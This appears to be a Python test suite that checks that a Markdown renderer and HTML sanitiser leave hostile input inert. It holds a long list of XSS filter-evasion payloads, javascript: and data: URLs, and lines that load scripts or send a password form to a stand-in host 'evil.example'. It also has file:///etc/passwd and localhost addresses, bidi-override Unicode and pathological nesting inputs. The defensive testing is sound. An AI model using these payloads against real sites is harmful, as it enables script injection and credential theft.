"""Hostile text: what attackers type, what breaks parsers, what takes for ever. It comes out inert, whatever it is.

The corpus re-expresses what is known (the OWASP cheat sheet on evading filters, the CommonMark suites for pathological
input, reports against other renderers) as cases of our own.
"""

import time
from typing import Final

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from planet.web.text import clean_source
from posts.text import render, tokenise
from posts.text.markdown import MOST_HTML, Document, read
from posts.text.sanitise import sanitise
from tests.posts.text.inert import faults

KEY: Final = f"picture/ab/{'ab' * 16}-1200x800"
CALL: Final = "alert(document.domain)"

# --- what attackers type --------------------------------------------------------------------------------------------

ELEMENTS: Final = [
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT><script\n>{CALL}</script\n>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f'<img src=x onerror="{CALL}">',
    f"<img src=x:x onerror={CALL}//",
    f'<IMG """><SCRIPT>{CALL}</SCRIPT>">',
    f"<svg onload={CALL}><animate onbegin={CALL} attributeName=x>",
    f"<svg><a xlink:href='javascript:{CALL}'><text x=20 y=20>x</text></a></svg>",
    f'<math><mi//xlink:href="data:x,<script>{CALL}</script>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object><embed src=javascript:{CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<body onload={CALL}><base href=https://evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<form action=https://evil.example/><input name=password><button formaction=javascript:{CALL}>Sign in</button>",
    "<style>*{background:url(https://evil.example/)}</style><link rel=stylesheet href=https://evil.example/x.css>",
    f"<div style='background:url(javascript:{CALL})' onclick={CALL}>x</div>",
    f"<a href=\"javas\tcript:{CALL}\">x</a><a href='&#x6A;avascript:{CALL}'>y</a>",
    f"<!--<img src='--><img src=x onerror={CALL}//'>",
    f"<![CDATA[<script>{CALL}</script>]]><?xml version='1.0'?><!DOCTYPE x>",
    f"<textarea></textarea><script>{CALL}</script><title></title><xmp></xmp><plaintext>",
    "<marquee><blink><portal src=//evil.example><template shadowrootmode=open>x</template>",
    f'"><script>{CALL}</script>',
    f"'-{CALL}-'",
    f"</p></div></article><script>{CALL}</script>",
]

ADDRESSES: Final = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"java\tscript:{CALL}",
    f"java&#10;script:{CALL}",
    f"&#106;avascript:{CALL}", f"&#x6A&#x61vascript:{CALL}", f"javascript&colon;{CALL}", f"\\javascript:{CALL}",
    f"javascript://example.com/%0A{CALL}", f"\x01javascript:{CALL}", f"\u00a0javascript:{CALL}", f"%6aavascript:{CALL}",
    f"vbscript:{CALL}", f"livescript:{CALL}", f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd", "ftp://example.com/", "mailto:a@example.com", "tel:+1", "blob:https://example.com/1",
    "view-source:https://example.com/", "intent://x#Intent;end", "about:blank", "ws://example.com", "chrome://settings",
    "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example",
    "https:evil.example",
    "https:/evil.example", "https:///evil.example", "https://bank.example@evil.example/", "http://127.0.0.1/admin",
    "http://localhost/", "http://[::1]/", "http://0x7f000001/", "https://evil.example:99999/", "https://a..b/",
    "https://\u202eexample.com/", "https://exam\u200bple.com/", "https://example.com\\@evil.example/",
    "?next=//evil", "x",
]  # fmt: skip

AROUND: Final = [
    "{}", "[x]({})", "[x](<{}>)", '[x]({} "t")', "![x]({})", "<{}>", "[x][r]\n\n[r]: {}", "[x]: <{}>\n\n[x]",
    "[^1]\n\n[^1]: {}",
    "> {}", "- [x] {}", "| a |\n|--|\n| {} |", "# {}", "**{}**", "`{}`", "```\n{}\n```", "```{}\nx\n```", "    {}",
    "[![a]({})](https://x.example)", "[a](https://x.example '{}')", f"![a]({KEY} '{{}}')", "@bob{}", "$SOL{}", "#a{}",
]  # fmt: skip


def judged(source: str) -> Document:
    """Read the source; nothing in it may act, and it must be well-formed."""
    document = read(source)
    parts = [part for part in document.parts({"bob"}) if isinstance(part, str)]
    assert faults(*parts) == [], source[:300]
    assert sum(map(len, parts)) <= 2 * MOST_HTML
    return document


@pytest.mark.parametrize("around", AROUND)
@pytest.mark.parametrize("attack", [*ELEMENTS, *ADDRESSES])
def test_an_attack_is_text_wherever_it_stands(around: str, attack: str) -> None:
    judged(around.replace("{}", attack))
    judged(clean_source(around.replace("{}", attack)))


@pytest.mark.parametrize("attack", [*ELEMENTS, *ADDRESSES])
def test_an_attack_is_text_in_a_short_post_as_well(attack: str) -> None:
    assert faults(render(f"@bob {attack} $SOL #a", people={"bob"})) == []


@pytest.mark.parametrize("attack", [*ELEMENTS, *(f'<a href="{one}">x</a><img src="{one}">' for one in ADDRESSES)])
def test_the_last_gate_holds_without_the_renderer(attack: str) -> None:
    """Were everything before it broken, the sanitiser alone lets nothing act."""
    allowed = {"link to", "address"}  # which hosts may be linked, and how, is the parser's to say
    left = [fault for fault in faults(sanitise(attack)) if not any(fault.startswith(word) for word in allowed)]
    assert left == []
    for scheme in ("javascript", "vbscript", "data", "file"):
        assert f'href="{scheme}' not in sanitise(attack).lower()


# --- Unicode --------------------------------------------------------------------------------------------------------

UNICODE: Final = {
    "zalgo": "Z" + "\u0301\u0489\u035c" * 20_000,
    "one letter under a mountain": "a" + "\u0300" * 90_000,
    "bidi overrides": "\u202eevil\u202c [x](https://example.com/\u202egpj.exe) \u2066\u2067\u2068" * 500,
    "nested isolates": "\u2066" * 50_000 + "x",
    "tags": "\U000e0041" * 20_000,
    "joiners": "\u200d\u200c\u200b\u2060\ufeff" * 10_000,
    "variation selectors": "x\ufe0f" * 20_000,
    "families": "👩\u200d👩\u200d👧\u200d👦" * 5_000,
    "the long ligature": "\ufdfd" * 20_000,
    "private use": "\ue000\U0010fffd" * 10_000,
    "non-characters": "\ufffe\uffff\U0010ffff" * 10_000,
    "lone surrogates": "a\ud800b\udfffc" * 1_000,
    "NUL": "a\x00b[\x00](\x00)\x00" * 1_000,
    "controls": "".join(map(chr, range(32))) * 500,
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf" * 2_000,
    "full width": "<script>＃topic ＠bob $SOL" * 1_000,
    "casefolds that grow": "# " + "ﬃ" * 5_000 + "\n\n# " + "İ" * 5_000,
    "Hangul fillers": "\u3164\u115f" * 10_000,
}


@pytest.mark.parametrize("name", UNICODE)
def test_unicode_breaks_nothing(name: str) -> None:
    judged(UNICODE[name])


@pytest.mark.parametrize("name", ["bidi overrides", "nested isolates", "tags", "joiners", "controls", "private use"])
def test_what_turns_or_hides_text_is_not_stored(name: str) -> None:
    kept = clean_source(UNICODE[name])
    assert not any(mark in kept for mark in "\u202e\u202c\u2066\u2067\u2068\u200b\u2060\ufeff\U000e0041\ue000\x00\x1b")


@pytest.mark.parametrize("name", ["zalgo", "one letter under a mountain"])
def test_heaps_of_accents_are_cut_before_they_are_stored(name: str) -> None:
    assert len(clean_source(UNICODE[name])) < 10


def test_space_and_structure_survive_cleaning() -> None:
    source = "- a\n    - b\n\n\n\n```\n\tx  =  1\n```\n　首行\n1\u00a0000  \nend"
    assert clean_source(source) == source


# --- what takes for ever --------------------------------------------------------------------------------------------

LENGTH: Final = 100_000
REPEATED: Final = [
    "[", "![", "[^", "]", "](", "[a](", "[a](b", "[a]: b\n", "[a][", "[*", "*[a", "**[a](b)", "[^1]: a\n",
    "[^1]: [^1]\n",
    "*", "**", "_", "~~", "*a_", "*a **b ", "_a __b ", "a**b", "`", "`a", "` ``", "<", "<a ", "<!--", "<?", "<![CDATA[",
    "&", "&#x", "&amp;", "\\", ">", "> ", "- ", "1. ", "* - ", "> - ", "- a\n", "  - a\n", "- [ ] a\n", "|", "a|b\n",
    "|a|b|\n|-|-|\n", "# a\n", "a\n---\n", "===\n", "```\n", "    a\n", "***\n", "{{block:1}}\n\n", "$A ", "#t ",
    "@bob ",
    "http://", "https://a.bc ", "https://a.bc/(((", "<https://a.bc>", "a\n", "\n", "\t", "\u00a0", "你$A", "a@b.co ",
    "#＃",
]  # fmt: skip
NESTED: Final = {
    "brackets": "[" * 50_000 + "a" + "]" * 50_000,
    "links": "[a](" * 12_500 + ")" * 12_500,
    "pictures": "![" * 25_000 + "](x)" * 12_500,
    "quotes": ">" * 50_000 + "a\n" + ">" * 40_000,
    "lists": "".join("  " * depth + "- a\n" for depth in range(300)),
    "lists in one line": "- " * 200 + "a\n" + "b\n" * 45_000,
    "a lazy quote": "> a\n" + "b\n" * 49_000,
    "emphasis": "*a **a " * 14_000,
    "backticks of every length": "".join("`" * length + " " for length in range(1, 440)),
    "a wide table": "|a" * 2000 + "|\n" + "|-" * 2000 + "|\n" + "|\n" * 40_000,
    "a long table": "|a|a|a|a|\n|-|-|-|-|\n" + "||||\n" * 19_000,
    "references": "".join(f"[a{number}]: /b\n" for number in range(6000)) + "[a1]" * 3000,
    "a long reference": "[a]: /" + "b" * 5000 + "\n\n" + "[a]" * 30_000,
    "notes": "".join(f"[^{n}]: a\n" for n in range(5000)) + "".join(f"[^{n}]" for n in range(5000)),
    "notes in notes": "".join(f"[^{n}]: [^{n + 1}]\n\n" for n in range(4000)) + "[^0]",
    "open notes": "[^1]: a\n\n" + "[^" * 49_000,
    "one note, often": "[^1]: a\n\n" + "[^1]" * 24_000,
    "one long word": "x" * LENGTH,
    "one long address": "https://example.com/" + "a" * 99_000,
    "ten thousand mentions": "@bob " * 10_000,
}


def _seconds(source: str) -> float:
    start = time.process_time()
    judged(source)
    return time.process_time() - start


@pytest.mark.parametrize("name", NESTED)
def test_deep_and_wide_structures_take_bounded_time(name: str) -> None:
    assert _seconds(NESTED[name]) < 15  # the worst takes 3 on a quiet machine


@pytest.mark.parametrize("unit", REPEATED, ids=ascii)
def test_time_grows_with_length_and_not_with_its_square(unit: str) -> None:
    short, long = (unit * (size // len(unit)) for size in (LENGTH // 8, LENGTH))
    judged(short)  # warm
    quick = max(_seconds(short), 0.02)
    # Linear is eight times, quadratic sixty-four.
    assert _seconds(long) < 30 * quick


# --- properties -----------------------------------------------------------------------------------------------------

PIECES: Final = st.one_of(
    st.sampled_from(
        [*REPEATED, *AROUND, "\n\n", "\n", " ", "    ", f"![a]({KEY})", "[^1]", "$SOL", "#rates", "@bob", "x"]
    ),
    st.sampled_from([*ELEMENTS, *ADDRESSES]),
    st.text(max_size=12),
)
SOURCES: Final = st.one_of(st.text(max_size=400), st.lists(PIECES, max_size=40).map("".join))
often = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@often
@given(SOURCES)
def test_any_text_is_read_and_comes_out_well_formed_and_inert(source: str) -> None:
    document = judged(source)
    assert document.length >= 0
    assert document.minutes >= 1
    assert all(heading.id.startswith("h-") for heading in document.headings)


@often
@given(SOURCES)
def test_reading_twice_says_the_same(source: str) -> None:
    first, second = read(source), read(source)
    assert first.parts({"bob"}) == second.parts({"bob"}) == first.parts({"bob"})
    assert first.names == second.names


@often
@given(SOURCES)
def test_sanitising_what_is_sanitised_changes_nothing(source: str) -> None:
    for part in read(source).parts():
        if isinstance(part, str):
            assert sanitise(part) == part


@often
@given(SOURCES.filter(lambda source: not any("\ud800" <= c <= "\udfff" or c == "\ufffd" for c in source)))
def test_cleaning_what_is_clean_changes_nothing(source: str) -> None:
    once = clean_source(source)
    assert clean_source(once) == once
    judged(once)


@often
@given(st.text(max_size=400))
def test_the_tokeniser_loses_nothing_and_short_posts_are_inert(text: str) -> None:
    assert "".join(token.raw for token in tokenise(text)) == text
    assert faults(render(text.encode("utf-8", "replace").decode(), people={"bob"})) == []
